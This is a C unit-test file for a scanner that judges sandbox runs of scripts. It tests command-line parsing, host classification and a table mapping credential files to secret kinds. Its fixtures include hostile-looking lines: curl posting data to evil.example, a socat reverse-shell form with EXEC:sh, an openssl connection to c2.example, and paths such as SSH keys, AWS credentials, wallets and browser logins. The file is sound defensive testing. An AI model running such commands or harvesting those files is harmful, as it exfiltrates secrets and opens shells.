/* The judgement's parts: reading of command lines and hosts, whose secret is what, one finding out
 * of many events, bounded state, and the documentation of the finding table. */
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <sys/mman.h>

#include <cmocka.h>

#include "verdict/internal.h"

/* --- words --- */

static void test_glob(void **state)
{
    (void)state;
    static const struct {
        const char *pattern;
        const char *text;
        bool match;
    } rows[] = {
        {"~/.ssh/*", "~/.ssh/id_rsa", true},
        {"~/.ssh/*", "~/.ssh/a/b", false},
        {"~/.ssh/**", "~/.ssh/a/b", true},
        {"**/.git/hooks/*", "/x/y/.git/hooks/pre-push", true},
        {"**/.git/hooks/*.sample", "/x/.git/hooks/pre-push", false},
        {"*.py", "a.py", true},
        {"*.py", "a/b.py", false},
        {"a?c", "a/c", false},
        {"a*b*c", "axxbyyc", true},
        {"a*b*c", "axxbyy", false},
        {"", "", true},
        {"*", "", true},
        {"**a**b**c", "zzazzbzz", false},
        {"**/*.pem", "x/y/z.pem", true},
    };
    for (size_t i = 0; i < VB_ARRAY_LEN(rows); i++)
        if (vb_glob_match(rows[i].pattern, rows[i].text) != rows[i].match)
            fail_msg("%s against %s", rows[i].pattern, rows[i].text);
    /* Many stars must not take forever. */
    char text[4096];
    memset(text, 'a', sizeof(text) - 1);
    text[sizeof(text) - 1] = '\0';
    assert_false(vb_glob_match("a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*b", text));
}

static void test_word_lists(void **state)
{
    (void)state;
    assert_true(vb_word_in("a bc d", "bc"));
    assert_false(vb_word_in("a bc d", "b"));
    assert_true(vb_word_in("AWS_* x", "AWS_REGION"));
    assert_false(vb_word_in("AWS_* x", "AW"));
    assert_false(vb_word_in("", ""));
    assert_true(vb_word_in("*", "anything"));
}

struct command_case {
    const char *path;
    const char *argv[8];
    const char *program;
    unsigned traits; /* that must be there */
    unsigned never;  /* that must not */
    bool trusted;
    const char *host;
};

static const struct command_case command_cases[] = {
    {"/usr/bin/curl",
     {"curl", "-d", "@x", "https://User@Evil.Example:8443/x"},
     "curl",
     TRAIT_DOWNLOAD | TRAIT_NETWORK,
     TRAIT_INTERPRETER,
     true,
     "evil.example"},
    {"/usr/bin/curl",
     {"curl", "https://good.example@evil.example/"},
     "curl",
     TRAIT_NETWORK,
     0,
     true,
     "evil.example"},
    {"/usr/bin/curl",
     {"curl", "-e", "https://referer.example", "api.example.com/v1"},
     "curl",
     TRAIT_NETWORK,
     0,
     true,
     "api.example.com"},
    {"/usr/bin/curl",
     {"curl", "-H", "X: https://h.example", "--url=http://[2001:db8::1]:80/"},
     "curl",
     TRAIT_NETWORK,
     0,
     true,
     "2001:db8::1"},
    {"/usr/bin/curl",
     {"curl", "--data", "data.json", "-o", "out.txt"},
     "curl",
     TRAIT_NETWORK,
     0,
     true,
     NULL},
    {"/usr/bin/curl",
     {"curl", "-I", "https://a.example"},
     "curl",
     TRAIT_DISCARD,
     0,
     true,
     "a.example"},
    {"/usr/bin/scp",
     {"scp", "key", "bob@files.example.com:/tmp"},
     "scp",
     TRAIT_NETWORK,
     0,
     true,
     "files.example.com"},
    {"/usr/bin/socat",
     {"socat", "TCP:198.51.100.1:9", "EXEC:sh"},
     "socat",
     TRAIT_NETWORK,
     0,
     true,
     "198.51.100.1"},
    {"/bin/bash", {"bash"}, "bash", TRAIT_SHELL | TRAIT_STDIN, 0, true, NULL},
    {"/bin/bash", {"bash", "-s", "--", "x"}, "bash", TRAIT_STDIN, 0, true, NULL},
    {"/bin/bash", {"bash", "-lc", "true"}, "bash", TRAIT_SHELL, TRAIT_STDIN, true, NULL},
    {"/bin/bash", {"bash", "/dev/fd/63"}, "bash", TRAIT_STDIN, 0, true, NULL},
    {"/bin/bash", {"bash", "x.sh"}, "x.sh", TRAIT_SHELL, TRAIT_STDIN, false, NULL},
    {"/usr/bin/python3.11",
     {"python3", "-m", "pip", "install", "x"},
     "pip",
     TRAIT_INTERPRETER | TRAIT_PACKAGER,
     TRAIT_STDIN,
     true,
     NULL},
    {"/usr/bin/python3", {"python3", "-"}, "python3", TRAIT_STDIN, 0, true, NULL},
    {"/usr/bin/python3", {"python3", "-c", "print(1)"}, "python3", 0, TRAIT_STDIN, true, NULL},
    {"/usr/bin/node",
     {"node", "/usr/bin/npm", "publish"},
     "npm",
     TRAIT_PACKAGER,
     TRAIT_STDIN,
     true,
     NULL},
    /* The name of a program counts only where the subject cannot put one. */
    {"/usr/bin/node", {"node", "/tmp/npm"}, "npm", TRAIT_INTERPRETER, TRAIT_PACKAGER, false, NULL},
    {"/tmp/ssh", {"ssh", "host"}, "ssh", TRAIT_NETWORK, 0, false, NULL},
    {"/usr/bin/../../tmp/ssh", {"ssh"}, "ssh", TRAIT_NETWORK, 0, false, NULL},
    {"/usr/tmp/ssh", {"ssh"}, "ssh", TRAIT_NETWORK, 0, false, NULL},
    {"/usr/./tmp/ssh", {"ssh"}, "ssh", TRAIT_NETWORK, 0, false, NULL},
    {"/usr/bin/../tmp/ssh", {"ssh"}, "ssh", TRAIT_NETWORK, 0, false, NULL},
    {"/usr/lib/ssl/certs/../../../tmp/ssh", {"ssh"}, "ssh", TRAIT_NETWORK, 0, false, NULL},
    {"/usr/lib/ssl/certs/../../../home/a/ssh", {"ssh"}, "ssh", TRAIT_NETWORK, 0, false, NULL},
    {"/usr/bin/node",
     {"node", "/usr/lib/ssl/certs/../../../home/alex/npm-cli.js"},
     "npm",
     TRAIT_INTERPRETER,
     TRAIT_PACKAGER,
     false,
     NULL},
    {"/usr/bin/../lib/tool/python3",
     {"python3", "/usr/bin/../lib/tool/gcloud.py"},
     "gcloud.py",
     TRAIT_INTERPRETER,
     TRAIT_STDIN,
     true,
     NULL},
    {"/usr/bin/base64", {"base64", "-D"}, "base64", TRAIT_DECODE, 0, true, NULL},
    {"/usr/bin/base64", {"base64", "x"}, "base64", 0, TRAIT_DECODE, true, NULL},
    {"/bin/busybox",
     {"busybox", "wget", "http://w.example/x"},
     "wget",
     TRAIT_DOWNLOAD,
     0,
     true,
     "w.example"},
    {"/usr/bin/grep", {"grep", "-r", "x", "."}, "grep", TRAIT_SWEEP, 0, true, NULL},
    {"/usr/bin/openssl",
     {"openssl", "enc", "-aes-256-cbc", "-out", "notes.enc"},
     "openssl",
     TRAIT_NETWORK,
     0,
     true,
     NULL},
    {"/usr/bin/openssl",
     {"openssl", "s_client", "-connect", "c2.example:443"},
     "openssl",
     TRAIT_NETWORK,
     0,
     true,
     "c2.example"},
    {"", {NULL}, "", 0, TRAIT_SHELL, false, NULL},
};

static void test_commands(void **state)
{
    (void)state;
    for (size_t i = 0; i < VB_ARRAY_LEN(command_cases); i++) {
        const struct command_case *row = &command_cases[i];
        struct arena arena = {0};
        char *argv[8];
        size_t count = 0;
        while (count < 8 && row->argv[count] != NULL) {
            argv[count] = vb_arena_str(&arena, row->argv[count]);
            count++;
        }
        const struct command command = vb_command_read(&arena, row->path, argv, count);
        const char *host = vb_argv_host(&arena, &command, argv, count);
        if (strcmp(command.program, row->program) != 0 ||
            (command.traits & row->traits) != row->traits || (command.traits & row->never) != 0 ||
            command.trusted != row->trusted)
            fail_msg("row %zu: %s, traits %u, trusted %d", i, command.program, command.traits,
                     command.trusted);
        if ((host == NULL) != (row->host == NULL) || (host != NULL && strcmp(host, row->host) != 0))
            fail_msg("row %zu: host %s", i, host ? host : "none");
        vb_arena_done(&arena);
    }
}

static void test_hosts(void **state)
{
    (void)state;
    assert_true(vb_host_below("a.example.com", "example.com"));
    assert_false(vb_host_below("badexample.com", "example.com"));
    assert_true(vb_host_is_drop("x.webhook.site"));
    assert_false(vb_host_is_drop("webhook.site.example.com"));
    assert_true(vb_host_is_address("203.0.113.1"));
    assert_true(vb_host_is_address("2001:db8::1"));
    assert_false(vb_host_is_address("1.example"));
    assert_true(vb_host_is_loopback("127.0.0.53"));
    assert_false(vb_host_is_loopback("128.0.0.1"));
    assert_true(vb_host_is_private("172.20.1.1"));
    assert_false(vb_host_is_private("172.2.1.1"));
    assert_false(vb_host_is_private("fdn.example"));
}

static void test_secret_places(void **state)
{
    (void)state;
    static const struct {
        const char *path;
        enum secret_kind kind;
    } rows[] = {
        {"~/.ssh/id_ed25519", SECRET_PRIVATE},
        {"~/.ssh/config", SECRET_COMMON},
        {"~/.ssh/id_rsa.pub", SECRET_COMMON},
        {"~/.aws/credentials", SECRET_SERVICE},
        {"~/.gitconfig", SECRET_COMMON},
        {"~/.openclaw/.env", SECRET_CONFIG},
        {"~/.clawdbot/.env", SECRET_PRIVATE},
        {"~/.openclaw/credentials/a/b.json", SECRET_PRIVATE},
        {"~/.bitcoin/wallet.dat", SECRET_PRIVATE},
        {"~/projects/x/.env.production", SECRET_PRIVATE},
        {"~/.claude/.credentials.json", SECRET_PRIVATE},
        {"~/.config/google-chrome/Default/Login Data", SECRET_PRIVATE},
        {"~/some/thing/never/heard/of", SECRET_PRIVATE},
    };
    for (size_t i = 0; i < VB_ARRAY_LEN(rows); i++)
        if (vb_secret_of_path(rows[i].path)->kind != rows[i].kind)
            fail_msg("%s: %s", rows[i].path, vb_secret_of_path(rows[i].path)->label);
    assert_int_equal(vb_secret_of_env("OPENAI_API_KEY")->kind, SECRET_SERVICE);
    assert_int_equal(vb_secret_of_env("OPENCLAW_GATEWAY_TOKEN")->kind, SECRET_PRIVATE);
    assert_int_equal(vb_secret_of_env("SOMETHING")->kind, SECRET_SERVICE);
}

static void test_names(void **state)
{
    (void)state;
    struct arena arena = {0};
    struct names names;
    vb_names_init(&names, 1000);
    for (int i = 0; i < 1200; i++) {
        char text[16];
        (void)snprintf(text, sizeof(text), "n%d", i);
        (void)vb_names_add(&names, &arena, text, i, NULL);
    }
    assert_int_equal(names.count, 1000);
    assert_int_equal(names.dropped, 200);
    assert_int_equal(vb_names_find(&names, "n999")->value, 999);
    assert_null(vb_names_find(&names, "n1000"));
    bool fresh = true;
    assert_int_equal(vb_names_add(&names, &arena, "n5", 77, &fresh)->value, 5);
    assert_false(fresh);
    vb_names_done(&names);
    vb_arena_done(&arena);
}

static void test_texts_become_utf8(void **state)
{
    (void)state;
    struct arena arena = {0};
    assert_string_equal(vb_arena_copy(&arena, "a\xff\0b", 4), "a\\xff?b");
    assert_string_equal(vb_arena_cut(&arena, "\xc3\xa4\xc3\xa4\xc3\xa4", 3), "\xc3\xa4…");
    assert_true(vb_utf8_valid(vb_arena_cut(&arena, "\xc3\xa4\xc3\xa4", 3), 5));
    vb_arena_done(&arena);
}

/* --- whole judgements over logs made here --- */

struct story {
    struct vb_log_writer log;
    int fd;
};

static void tell(struct story *story, struct vb_event *event)
{
    struct vb_error err = {0};
    if (vb_emit(&story->log.sink, event, &err) < 0)
        fail_msg("%s", err.message);
}

static void begin(struct story *story)
{
    struct vb_event event;
    story->fd = memfd_create("log", MFD_CLOEXEC);
    assert_true(story->fd >= 0);
    vb_log_writer_init(&story->log, story->fd);
    vb_event_init(&event, VB_EV_LOG_BEGIN, VB_SOURCE_TOOL);
    vb_event_str(&event, VB_F_VERSION, VB_LOG_VERSION);
    vb_event_str(&event, VB_F_TOOL, "test");
    vb_event_str(&event, VB_F_REFERENCE, "x");
    vb_event_int(&event, VB_F_CLOCK, 1767225600);
    vb_event_str(&event, VB_F_ACTION, "vet");
    tell(story, &event);
}

static struct vb_verdict *conclude(struct story *story)
{
    struct vb_error err = {0};
    struct vb_policy *policy = NULL;
    struct vb_verdict *verdict = NULL;
    assert_int_equal(vb_log_end(&story->log, &err), VB_OK);
    vb_log_writer_done(&story->log);
    assert_int_equal(vb_policy_load(NULL, &policy, &err), VB_OK);
    if (vb_judge(story->fd, policy, NULL, &verdict, &err) < 0)
        fail_msg("%s", err.message);
    vb_policy_free(policy);
    vb_close_fd(&story->fd);
    return verdict;
}

static void match(struct story *story, const char *rule, const char *severity, int line)
{
    struct vb_event event;
    vb_event_init(&event, VB_EV_SCAN_MATCH, VB_SOURCE_STATIC);
    vb_event_str(&event, VB_F_RULE, rule);
    vb_event_str(&event, VB_F_PATH, "a.sh");
    vb_event_str(&event, VB_F_TITLE, "a rule");
    vb_event_str(&event, VB_F_SEVERITY, severity);
    vb_event_str(&event, VB_F_CONFIDENCE, "high");
    vb_event_int(&event, VB_F_LINE, line);
    tell(story, &event);
}

/* A flood of small findings of one id must not hide the grave one that comes last. */
static void test_flood_hides_nothing(void **state)
{
    (void)state;
    struct story story;
    begin(&story);
    for (int i = 1; i <= 500; i++)
        match(&story, "VB-RULE", "low", i);
    match(&story, "VB-RULE", "critical", 501);
    match(&story, "VB-RULE", "critical", 502);
    struct vb_verdict *verdict = conclude(&story);
    assert_int_equal(verdict->decision, VB_DECISION_BLOCK);
    assert_int_equal(verdict->finding_count, MAX_FINDINGS_ALIKE + 2);
    assert_int_equal(verdict->findings[0].severity, VB_SEVERITY_CRITICAL);
    assert_int_equal(verdict->findings[0].occurrences, 2);
    uint64_t all = 0;
    for (size_t i = 0; i < verdict->finding_count; i++)
        all += verdict->findings[i].occurrences;
    assert_int_equal(all, 502);
    vb_verdict_free(verdict);
}

/* More ids than fit: nothing is concluded from what was dropped, and it is never allowed. */
static void test_too_many_findings(void **state)
{
    (void)state;
    struct story story;
    begin(&story);
    for (int i = 0; i < MAX_FINDINGS + 10; i++) {
        char rule[32];
        (void)snprintf(rule, sizeof(rule), "VB-R%d", i);
        match(&story, rule, "info", 1);
    }
    struct vb_verdict *verdict = conclude(&story);
    assert_int_equal(verdict->decision, VB_DECISION_REVIEW);
    assert_true(verdict->finding_count <= MAX_FINDINGS);
    vb_verdict_free(verdict);
}

static void test_evidence_is_capped_and_sorted(void **state)
{
    (void)state;
    struct story story;
    begin(&story);
    for (int i = 0; i < 100; i++)
        match(&story, "VB-RULE", "high", 7);
    struct vb_verdict *verdict = conclude(&story);
    assert_int_equal(verdict->finding_count, 1);
    const struct vb_finding *finding = &verdict->findings[0];
    assert_int_equal(finding->evidence_count, MAX_EVIDENCE);
    assert_int_equal(finding->evidence_more, 100 - MAX_EVIDENCE);
    for (size_t i = 1; i < finding->evidence_count; i++)
        assert_true(finding->evidence[i - 1] < finding->evidence[i]);
    vb_verdict_free(verdict);
}

static void begin_run(struct story *story, uint32_t id)
{
    struct vb_event event;
    static const struct vb_str argv[] = {{"bash", 4}, {"x.sh", 4}};
    vb_event_init(&event, VB_EV_DETONATION_BEGIN, VB_SOURCE_TOOL);
    event.detonation = id;
    vb_event_list(&event, VB_F_ARGV, argv, 2);
    vb_event_str(&event, VB_F_REASON, "script");
    vb_event_str(&event, VB_F_CWD, "/home/alex/.openclaw/workspace/skills/x");
    tell(story, &event);
}

static void end_run(struct story *story, uint32_t id)
{
    struct vb_event event;
    vb_event_init(&event, VB_EV_DETONATION_END, VB_SOURCE_TOOL);
    event.detonation = id;
    vb_event_str(&event, VB_F_OUTCOME, "exit");
    vb_event_int(&event, VB_F_DURATION, 1);
    tell(story, &event);
}

static void execute(struct story *story, int64_t pid, const char *path, const char *argument)
{
    struct vb_event event;
    const struct vb_str argv[] = {{path, strlen(path)}, {argument, strlen(argument)}};
    vb_event_init(&event, VB_EV_PROCESS_EXEC, VB_SOURCE_SYSCALL);
    event.detonation = 1;
    vb_event_int(&event, VB_F_PID, pid);
    vb_event_int(&event, VB_F_PPID, 10);
    vb_event_str(&event, VB_F_PATH, path);
    vb_event_list(&event, VB_F_ARGV, argv, 2);
    tell(story, &event);
}

/* A run that makes more processes than can be followed is a gap, so it is not allowed. */
static void test_process_flood(void **state)
{
    (void)state;
    struct story story;
    begin(&story);
    begin_run(&story, 1);
    for (int i = 0; i < MAX_PROCESSES + 10; i++)
        execute(&story, 100 + i, "/usr/bin/true", "x");
    end_run(&story, 1);
    struct vb_verdict *verdict = conclude(&story);
    assert_int_equal(verdict->decision, VB_DECISION_REVIEW);
    assert_int_equal(verdict->gaps.count, 1);
    vb_verdict_free(verdict);
}

static void layer(struct story *story, const char *text)
{
    struct vb_event event;
    vb_event_init(&event, VB_EV_SCAN_LAYER, VB_SOURCE_STATIC);
    vb_event_str(&event, VB_F_PATH, "x.sh");
    vb_event_str(&event, VB_F_LAYER, "base64@1");
    vb_event_int(&event, VB_F_SIZE, (int64_t)strlen(text));
    vb_event_str(&event, VB_F_SHA256, "ab");
    vb_event_str(&event, VB_F_TEXT, text);
    tell(story, &event);
}

/* Of COUNT texts that are encoded the last one is executed. */
static struct vb_verdict *judge_layers(int count)
{
    struct story story;
    begin(&story);
    for (int i = 0; i < count; i++) {
        char text[32];
        (void)snprintf(text, sizeof(text), "names of list %d", i);
        layer(&story, text);
    }
    layer(&story, "/usr/bin/true --of-the-list");
    begin_run(&story, 1);
    execute(&story, 10, "/usr/bin/bash", "x.sh");
    execute(&story, 11, "/usr/bin/true", "--of-the-list");
    end_run(&story, 1);
    return conclude(&story);
}

/* Many encoded texts hide none; more than can be compared are a gap. */
static void test_layer_flood(void **state)
{
    (void)state;
    struct vb_verdict *verdict = judge_layers(MAX_LAYERS - 1);
    assert_int_equal(verdict->decision, VB_DECISION_BLOCK);
    vb_verdict_free(verdict);
    verdict = judge_layers(MAX_LAYERS);
    assert_int_equal(verdict->decision, VB_DECISION_REVIEW);
    assert_int_equal(verdict->gaps.count, 1);
    vb_verdict_free(verdict);
}

/* So are more commands than can be looked for among them. */
static void test_looked_flood(void **state)
{
    (void)state;
    struct story story;
    begin(&story);
    layer(&story, "names of the list");
    begin_run(&story, 1);
    execute(&story, 10, "/usr/bin/bash", "x.sh");
    for (int i = 0; i < MAX_LOOKED + 10; i++) {
        char number[32];
        (void)snprintf(number, sizeof(number), "--number=%d", i);
        execute(&story, 11, "/usr/bin/true", number);
    }
    end_run(&story, 1);
    struct vb_verdict *verdict = conclude(&story);
    assert_int_equal(verdict->decision, VB_DECISION_REVIEW);
    assert_int_equal(verdict->gaps.count, 1);
    vb_verdict_free(verdict);
}

static void answer(struct story *story, const char *sha256)
{
    struct vb_event event;
    vb_event_init(&event, VB_EV_WORLD_RESPONSE, VB_SOURCE_WORLD);
    event.detonation = 1;
    vb_event_int(&event, VB_F_CONNECTION, 1);
    vb_event_str(&event, VB_F_ADDRESS, "104.16.3.4");
    vb_event_int(&event, VB_F_PORT, 443);
    vb_event_int(&event, VB_F_STATUS, 200);
    vb_event_int(&event, VB_F_SIZE, 4);
    vb_event_str(&event, VB_F_URL, "https://files.unnamed.example/tool.py");
    vb_event_str(&event, VB_F_NAME, "files.unnamed.example");
    vb_event_str(&event, VB_F_FORM, "script");
    vb_event_str(&event, VB_F_TOKEN, "3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c");
    vb_event_str(&event, VB_F_SHA256, sha256);
    tell(story, &event);
}

static void place(struct story *story, const char *name, const char *sha256)
{
    struct vb_event event;
    char path[64];
    (void)snprintf(path, sizeof(path), "/home/alex/Desktop/%s", name);
    vb_event_init(&event, VB_EV_TRUTH_FILE, VB_SOURCE_TRUTH);
    event.detonation = 1;
    vb_event_str(&event, VB_F_PATH, path);
    vb_event_str(&event, VB_F_CHANGE, "created");
    vb_event_str(&event, VB_F_SHA256, sha256);
    tell(story, &event);
}

/* The download that is left with the user, behind COUNT other files. */
static struct vb_verdict *judge_placed(int count)
{
    struct story story;
    begin(&story);
    begin_run(&story, 1);
    answer(&story, "2d2d");
    for (int i = 0; i < count; i++) {
        char name[32];
        (void)snprintf(name, sizeof(name), "%04d.txt", i);
        place(&story, name, "5a5a");
    }
    place(&story, "tool.py", "2d2d");
    end_run(&story, 1);
    return conclude(&story);
}

static bool has_finding(const struct vb_verdict *verdict, const char *id)
{
    bool found = false;
    for (size_t i = 0; i < verdict->finding_count; i++)
        found = found || strcmp(verdict->findings[i].id, id) == 0;
    return found;
}

/* Many files that a run leaves hide no download among them; too many are a gap. */
static void test_placed_flood(void **state)
{
    (void)state;
    struct vb_verdict *verdict = judge_placed(MAX_PLACED - 1);
    assert_true(has_finding(verdict, "VB-DOWNLOAD-LEFT"));
    assert_int_equal(verdict->gaps.count, 0);
    vb_verdict_free(verdict);
    verdict = judge_placed(MAX_PLACED);
    assert_int_equal(verdict->decision, VB_DECISION_REVIEW);
    assert_int_equal(verdict->gaps.count, 1);
    vb_verdict_free(verdict);
}

/* One process that executes itself anew with long arguments must not eat the memory. */
static void test_exec_flood_is_bounded(void **state)
{
    (void)state;
    struct story story;
    VB_CLEANUP_FREE char *argument = malloc(8001);
    assert_non_null(argument);
    memset(argument, 'x', 8000);
    argument[8000] = '\0';
    begin(&story);
    begin_run(&story, 1);
    for (int i = 0; i < 20000; i++)
        execute(&story, 100, "/usr/bin/true", argument);
    end_run(&story, 1);
    struct vb_verdict *verdict = conclude(&story);
    assert_true(verdict->commands.count <= 2);
    vb_verdict_free(verdict);
}

/* Events of a detonation after its end (a dropped file that is scanned) and of one that never
 * began. */
static void test_events_out_of_turn(void **state)
{
    (void)state;
    struct story story;
    begin(&story);
    begin_run(&story, 1);
    end_run(&story, 1);
    execute(&story, 100, "/usr/bin/curl", "https://late.example/");
    struct vb_event event;
    vb_event_init(&event, VB_EV_DETONATION_END, VB_SOURCE_TOOL);
    event.detonation = 9;
    vb_event_str(&event, VB_F_OUTCOME, "exit");
    vb_event_int(&event, VB_F_DURATION, 1);
    tell(&story, &event);
    vb_verdict_free(conclude(&story));
}

/* --- the documentation --- */

static void test_findings_are_documented(void **state)
{
    (void)state;
    const struct vb_finding_type *types = NULL;
    const size_t count = vb_finding_types(&types);
    struct vb_error err = {0};
    VB_CLEANUP(vb_buf_done) struct vb_buf page;
    vb_buf_init(&page, 1024 * 1024);
    VB_CLEANUP_FD int fd = open(VB_SOURCE_DIR "/docs/findings.md", O_RDONLY | O_CLOEXEC);
    assert_true(fd >= 0);
    assert_int_equal(vb_buf_read_fd(&page, fd, &err), VB_OK);
    assert_int_equal(count, FINDING_COUNT);
    for (size_t i = 0; i < count; i++) {
        VB_CLEANUP(vb_buf_done) struct vb_buf want;
        vb_buf_init(&want, 65536);
        assert_int_equal(vb_buf_printf(&want, &err,
                                       "\n### `%s`\n\n%s. Severity %s, confidence %s.\n\n%s\n\n"
                                       "Mapping: %s\n",
                                       types[i].id, types[i].title,
                                       vb_severity_name(types[i].severity),
                                       vb_confidence_name(types[i].confidence),
                                       types[i].explanation, types[i].mapping),
                         VB_OK);
        if (strstr((const char *)page.data, (const char *)want.data) == NULL)
            fail_msg("docs/findings.md must say:%s", (const char *)want.data);
        for (size_t j = 0; j < i; j++)
            assert_string_not_equal(types[i].id, types[j].id);
    }
    size_t sections = 0;
    for (const char *at = (const char *)page.data; (at = strstr(at, "\n### ")) != NULL; at++)
        sections++;
    assert_int_equal(sections, count);
}

/* Every place of the tables must be reachable: an earlier, wider pattern would shadow it. */
static void test_no_place_is_shadowed(void **state)
{
    (void)state;
    assert_string_equal(vb_secret_of_path("~/.aws/amazonq/x")->label, "an AI agent's login");
    assert_string_equal(vb_secret_of_path("~/.openclaw/workspace/MEMORY.md")->label,
                        "the agent's memory");
    assert_string_equal(vb_secret_of_path("~/.claude/settings.json")->label,
                        "the agent's settings");
    assert_string_equal(vb_secret_of_path("~/.config/op/config")->label,
                        "a password manager's store");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_glob),
        cmocka_unit_test(test_word_lists),
        cmocka_unit_test(test_commands),
        cmocka_unit_test(test_hosts),
        cmocka_unit_test(test_secret_places),
        cmocka_unit_test(test_names),
        cmocka_unit_test(test_texts_become_utf8),
        cmocka_unit_test(test_flood_hides_nothing),
        cmocka_unit_test(test_too_many_findings),
        cmocka_unit_test(test_evidence_is_capped_and_sorted),
        cmocka_unit_test(test_process_flood),
        cmocka_unit_test(test_layer_flood),
        cmocka_unit_test(test_looked_flood),
        cmocka_unit_test(test_placed_flood),
        cmocka_unit_test(test_exec_flood_is_bounded),
        cmocka_unit_test(test_events_out_of_turn),
        cmocka_unit_test(test_findings_are_documented),
        cmocka_unit_test(test_no_place_is_shadowed),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
